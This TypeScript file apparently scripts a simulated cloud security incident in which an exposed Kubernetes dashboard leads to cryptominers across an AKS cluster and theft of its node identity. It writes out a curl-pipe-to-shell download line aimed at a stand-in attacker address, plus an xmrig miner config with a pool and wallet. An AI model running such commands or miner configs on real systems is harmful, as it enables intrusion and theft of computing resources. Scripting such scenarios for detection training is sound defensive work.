// A Kubernetes dashboard was opened to the internet; a miner moved in and grew across the cluster.
import { servicePrincipal } from '../applications.ts';
import { azureResource, azureSubscription } from '../clouds.ts';
import {
  cluster,
  container,
  controller,
  image,
  loadBalancer,
  namespace,
  pod,
  registry,
  secret,
  serviceAccount,
} from '../kubernetes.ts';
import { connection, dns, ip, url } from '../network.ts';
import { ANALYSTS, PEOPLE, user } from '../people.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript, Sighting } from '../script.ts';

const aks = azureResource(
  'production',
  'rg-aks-booking',
  'Microsoft.ContainerService/managedClusters',
  'aks-booking-prod',
);
const nodePool = azureResource(
  'production',
  'MC_rg-aks-booking_westeurope',
  'Microsoft.Compute/virtualMachineScaleSets',
  'aks-gpu-31876240-vmss',
);
const booking = cluster(aks, 'aks', '1.31.7');
const dashboardSpace = namespace(booking, 'kubernetes-dashboard');
const systemSpace = namespace(booking, 'kube-system');
const batchSpace = namespace(booking, 'batch');
const dashboardAccount = serviceAccount(dashboardSpace, 'kubernetes-dashboard');
const dashboardService = loadBalancer({
  inside: dashboardSpace,
  name: 'kubernetes-dashboard',
  clusterAddress: '10.0.214.7',
  externalAddresses: ['198.51.100.190'],
  port: 443,
});
const dockerHub = registry('docker.io');
const minerImage = image(dockerHub, 'docker.io/kannix/xmrig-tools:latest');
const ownRegistry = registry('acrnwhbooking.azurecr.io');
const batchImage = image(ownRegistry, 'acrnwhbooking.azurecr.io/batch/tariff-sync:2.9.0');
const attacker = ip('203.0.113.201');
const pool = 'pool.minexmr.example';
const tokenSecret = secret(
  systemSpace,
  'cluster-admin-token-7d2xk',
  'kubernetes.io/service-account-token',
);
const minerSet = controller(systemSpace, 'DaemonSet', 'node-metrics-agent');
const batchJob = controller(batchSpace, 'Deployment', 'tariff-sync');

const minerContainer = (name: string) =>
  container({
    name,
    image: minerImage,
    command: ['/xmrig'],
    args: [
      '-o',
      `stratum+tcp://${pool}:4444`,
      '-u',
      '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
      '--cpu-max-threads-hint=75',
    ],
    isPrivileged: true,
  });

const minerPod = (suffix: string, address: string) =>
  pod({
    name: `node-metrics-agent-${suffix}`,
    inside: systemSpace,
    containers: [minerContainer('agent')],
    controller: minerSet,
    serviceAccount: dashboardAccount,
    address,
  });

const firstPod = minerPod('q7fxk', '10.244.1.86');
const batchContainer = container({
  name: 'tariff-sync',
  image: batchImage,
  command: ['python', '-m', 'tariff_sync'],
});
const batchPod = pod({
  name: 'tariff-sync-6f8d9c7b54-mz2lq',
  inside: batchSpace,
  containers: [batchContainer],
  controller: batchJob,
  serviceAccount: serviceAccount(batchSpace, 'tariff-sync'),
  address: '10.244.3.19',
});

const BAD = { verdict: 'malicious', remediation: 'active' } as const;
const ODD = { verdict: 'suspicious', remediation: 'active' } as const;

interface Event {
  readonly after: string;
  readonly type: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly techniques: readonly string[];
  readonly tells: string;
  readonly evidence: readonly Sighting[];
  readonly lasts?: string;
}

/** Every alert of the plan names the cluster and its Azure resource. */
const inCluster = (event: Event): AlertScript => ({
  lasts: '4m',
  ...event,
  from: 'cloudContainers',
  advice:
    'Take the workload down, keep its image and logs, and find out with which identity it was started.',
  evidence: [seen(aks, 'attacked'), seen(booking, 'attacked'), ...event.evidence],
});

const entry: readonly AlertScript[] = [
  inCluster({
    after: '0m',
    type: 'K8S_ExposedDashboard',
    title: 'Exposed Kubernetes dashboard detected',
    severity: 'high',
    category: 'InitialAccess',
    techniques: ['T1133'],
    tells:
      'A load balancer made the Kubernetes dashboard of aks-booking-prod reachable from the internet.',
    evidence: [
      seen(dashboardService, ['created', 'attacked'], ODD),
      seen(dashboardSpace, 'contextual'),
      seen(user(PEOPLE.marek), 'source'),
    ],
  }),
  inCluster({
    after: '19h12m',
    type: 'K8S_TI_Proxy',
    title: 'K8S API requests from proxy IP address detected',
    severity: 'low',
    category: 'Execution',
    techniques: ['T1090', 'T1609'],
    tells: 'The API server was called through an anonymising proxy.',
    evidence: [
      seen(attacker, 'attacker', { verdict: 'malicious' }),
      seen(dashboardAccount, 'compromised', ODD),
    ],
  }),
  inCluster({
    after: '19h14m',
    type: 'K8S.NODE_KubernetesDashboard',
    title: 'Suspicious request to the Kubernetes Dashboard',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1021'],
    tells:
      'The skip button of the sign-in page was used, which leaves the caller with the rights of the dashboard itself.',
    evidence: [
      seen(dashboardService, 'attacked'),
      seen(attacker, 'attacker', { verdict: 'malicious' }),
      seen(connection(['203.0.113.201', 41022], ['198.51.100.190', 443]), 'suspicious'),
    ],
  }),
  inCluster({
    after: '19h21m',
    type: 'K8S_ServiceAccountRareOperation',
    title: 'Abnormal Kubernetes service account operation detected',
    severity: 'medium',
    category: 'CredentialAccess',
    techniques: ['T1552.007'],
    tells: 'The service account of the dashboard listed secrets in every namespace.',
    evidence: [
      seen(dashboardAccount, ['compromised', 'source'], BAD),
      seen(tokenSecret, 'attacked', ODD),
      seen(systemSpace, 'attacked'),
    ],
  }),
];

const mining: readonly AlertScript[] = [
  inCluster({
    after: '19h34m',
    type: 'K8S_MaliciousContainerImage',
    title: 'Digital currency mining container detected',
    severity: 'high',
    category: 'Execution',
    techniques: ['T1610', 'T1496.001'],
    tells: 'A daemon set in kube-system runs kannix/xmrig-tools, an image known for mining.',
    evidence: [
      seen(firstPod, ['created', 'suspicious'], BAD),
      seen(minerContainer('agent'), 'suspicious', BAD),
      seen(minerImage, 'suspicious', { verdict: 'malicious' }),
      seen(dockerHub, 'source'),
      seen(minerSet, 'created', BAD),
      seen(dashboardAccount, 'source'),
    ],
  }),
  ...(
    [
      ['19h36m', 'q7fxk', '10.244.1.86'],
      ['19h36m', 'b2m8w', '10.244.2.41'],
      ['19h37m', 'zz9tp', '10.244.3.77'],
      ['20h02m', 'h4c6r', '10.244.4.12'],
      ['20h03m', 'w8v3n', '10.244.5.12'],
    ] as const
  ).map(([after, suffix, address]) =>
    inCluster({
      after,
      lasts: '9h',
      type: 'K8S.NODE_DigitalCurrencyMining',
      title: 'Digital currency mining related behavior detected',
      severity: 'high',
      category: 'Execution',
      techniques: ['T1496.001'],
      tells: `node-metrics-agent-${suffix} talks to a mining pool and uses three quarters of its node.`,
      evidence: [
        seen(minerPod(suffix, address), 'suspicious', BAD),
        seen(minerSet, 'contextual'),
        seen(dns(pool, address, ['203.0.113.144']), 'suspicious', { verdict: 'malicious' }),
        seen(ip('203.0.113.144'), 'commandAndControl', { verdict: 'malicious' }),
      ],
    }),
  ),
  inCluster({
    after: '19h40m',
    type: 'K8S.NODE_CryptoCoinMinerExecution',
    title: 'Potential crypto coin miner started',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1496.001'],
    tells: 'xmrig was started with a wallet address on its command line.',
    evidence: [seen(firstPod, 'suspicious', BAD), seen(minerContainer('agent'), 'suspicious', BAD)],
  }),
  inCluster({
    after: '19h58m',
    type: 'K8S_DeleteEvents',
    title: 'Kubernetes events deleted',
    severity: 'low',
    category: 'DefenseEvasion',
    techniques: ['T1070'],
    tells: 'Events of kube-system were deleted by the service account of the dashboard.',
    evidence: [seen(systemSpace, 'edited', ODD), seen(dashboardAccount, 'source', BAD)],
  }),
  inCluster({
    after: '20h05m',
    type: 'K8S.NODE_SuspectProcessTermination',
    title: 'Security-related process termination detected',
    severity: 'low',
    category: 'Persistence',
    techniques: ['T1562.001'],
    tells: 'The miner stops other miners and the log agent of the node.',
    evidence: [seen(firstPod, 'suspicious', BAD)],
  }),
];

const spread: readonly AlertScript[] = [
  inCluster({
    after: '1d6h10m',
    type: 'K8S.NODE_SuspectDownload',
    title: 'Detected file download from a known malicious source',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1105'],
    tells: 'A running container of tariff-sync fetched a script.',
    evidence: [
      seen(batchPod, 'compromised', ODD),
      seen({ ...batchContainer, pod: batchPod }, 'compromised', ODD),
      seen(batchImage, 'contextual'),
      seen(ownRegistry, 'contextual'),
      seen(url('http://203.0.113.144/ldr.sh'), 'suspicious', { verdict: 'malicious' }),
    ],
  }),
  inCluster({
    after: '1d6h11m',
    type: 'K8S.NODE_DownloadAndRunCombo',
    title: 'Suspicious Download Then Run Activity',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1059.004', 'T1105'],
    tells: 'curl -s http://203.0.113.144/ldr.sh | sh',
    evidence: [
      seen(batchPod, 'compromised', ODD),
      seen(ip('203.0.113.144'), 'source', { verdict: 'malicious' }),
    ],
  }),
  inCluster({
    after: '1d6h19m',
    type: 'K8S.NODE_ImdsCall',
    title: 'Access to cloud metadata service detected',
    severity: 'medium',
    category: 'CredentialAccess',
    techniques: ['T1552.005'],
    tells: 'A token of the node pool identity was asked for at 169.254.169.254.',
    evidence: [
      seen(batchPod, 'compromised', ODD),
      seen(servicePrincipal('aks-booking-prod-agentpool', 'managedIdentity'), 'attacked', ODD),
      seen(connection(['10.244.3.19', 50110], ['169.254.169.254', 80]), 'suspicious'),
    ],
  }),
  ...(
    [
      ['b2m8w', '10.244.2.41'],
      ['zz9tp', '10.244.3.77'],
      ['w8v3n', '10.244.5.12'],
    ] as const
  ).map(([suffix, address], index) =>
    inCluster({
      after: `1d6h${20 + index}m`,
      type: 'K8S.NODE_SuspectConnection',
      title: 'An uncommon connection attempt detected',
      severity: 'medium',
      category: 'Execution',
      techniques: ['T1571'],
      tells: `node-metrics-agent-${suffix} connects to port 9001 of the address that serves the miner.`,
      evidence: [
        seen(minerPod(suffix, address), 'suspicious', BAD),
        seen(connection([address, 43_900 + index], ['203.0.113.144', 9001]), 'suspicious'),
        seen(ip('203.0.113.144'), 'commandAndControl', { verdict: 'malicious' }),
      ],
    }),
  ),
  inCluster({
    after: '1d6h24m',
    type: 'K8S.NODE_KubeConfigAccess',
    title: 'Access to kubelet kubeconfig file detected',
    severity: 'medium',
    category: 'CredentialAccess',
    techniques: ['T1552.001'],
    tells: 'The kubelet kubeconfig of the node was read from a privileged container.',
    evidence: [seen(firstPod, 'attacker', BAD), seen(tokenSecret, 'attacked')],
  }),
  inCluster({
    after: '1d6h52m',
    type: 'K8S_AbnormalMiActivity',
    title: 'Abnormal activity of managed identity associated with Kubernetes (Preview)',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1078.004'],
    tells:
      'The identity of the node pool asked Azure Resource Manager for things outside the cluster.',
    evidence: [
      seen(
        servicePrincipal('aks-booking-prod-agentpool', 'managedIdentity'),
        ['compromised', 'source'],
        BAD,
      ),
      seen(azureSubscription('production'), 'attacked'),
    ],
  }),
  {
    after: '1d7h04m',
    from: 'cloudResourceManager',
    type: 'ARM_SuspiciousComputeCreation',
    title: 'PREVIEW - Suspicious creation of compute resources detected',
    severity: 'medium',
    category: 'Impact',
    techniques: ['T1578.002', 'T1496.001'],
    tells: 'A scale set of GPU machines was made in the node resource group.',
    evidence: [
      seen(nodePool, 'created', BAD),
      seen(azureSubscription('production'), 'attacked'),
      seen(servicePrincipal('aks-booking-prod-agentpool', 'managedIdentity'), 'source', BAD),
    ],
  },
  {
    after: '1d7h20m',
    lasts: '5h',
    from: 'cloudDns',
    type: 'AzureDNS_CurrencyMining',
    title: 'Digital currency mining activity',
    severity: 'low',
    category: 'Exfiltration',
    techniques: ['T1496.001', 'T1071.004'],
    tells: `Machines of the new scale set ask for ${pool}.`,
    evidence: [
      seen(nodePool, 'suspicious', BAD),
      seen(dns(pool, '10.224.0.71', ['203.0.113.144'], '168.63.129.16'), 'suspicious', {
        verdict: 'malicious',
      }),
    ],
  },
  {
    after: '1d7h45m',
    from: 'xdr',
    title: 'Crypto mining after access to an exposed cluster dashboard',
    severity: 'high',
    category: 'Impact',
    techniques: ['T1496.001', 'T1133'],
    tells:
      'The XDR engine tied the miners, the identity of the node pool and the new scale set to one entry: the dashboard.',
    evidence: [
      seen(booking, 'attacked'),
      seen(aks, 'attacked'),
      seen(nodePool, 'created', BAD),
      seen(attacker, 'attacker', { verdict: 'malicious' }),
    ],
  },
];

export const AKS_MINER: IncidentScript = {
  key: 'aks-miner',
  id: '4182',
  startsAt: '-3d 13:20',
  name: 'Crypto miner in AKS cluster aks-booking-prod through an exposed dashboard',
  tells:
    'The Kubernetes dashboard of aks-booking-prod was reachable from the internet. Someone used its service account to run miners on every node, then the identity of the node pool to buy GPU machines.',
  status: 'inProgress',
  assignedTo: ANALYSTS.ben,
  classification: 'truePositive',
  determination: 'multiStagedAttack',
  priority: 88,
  systemTags: ['Critical asset'],
  customTags: ['Kubernetes', 'Cost'],
  comments: [
    {
      after: '1d8h',
      by: ANALYSTS.ben,
      text: 'Load balancer deleted. Scale set stopped, kept for imaging.',
    },
    {
      after: '1d9h30m',
      by: ANALYSTS.robin,
      text: 'Platform team rotates the identity of the node pool tonight.',
    },
  ],
  alerts: inOrder(entry, mining, spread),
  continues: [
    inCluster({
      after: '0s',
      type: 'K8S.NODE_CryptoCoinMinerDownload',
      title: 'Possible Cryptocoinminer download detected',
      severity: 'medium',
      category: 'CommandAndControl',
      techniques: ['T1105'],
      tells: 'A container of the batch namespace fetched xmrig again.',
      evidence: [
        seen(batchPod, 'compromised', ODD),
        seen(url('http://203.0.113.144/xmrig-6.22.tgz'), 'suspicious', { verdict: 'malicious' }),
      ],
    }),
    inCluster({
      after: '0s',
      type: 'K8S.NODE_SystemLogRemoval',
      title: 'Possible Log Tampering Activity Detected',
      severity: 'medium',
      category: 'DefenseEvasion',
      techniques: ['T1070.002'],
      tells: 'A container removed logs of its node.',
      evidence: [seen(minerPod('k5d1x', '10.244.6.9'), 'suspicious', BAD)],
    }),
  ],
};
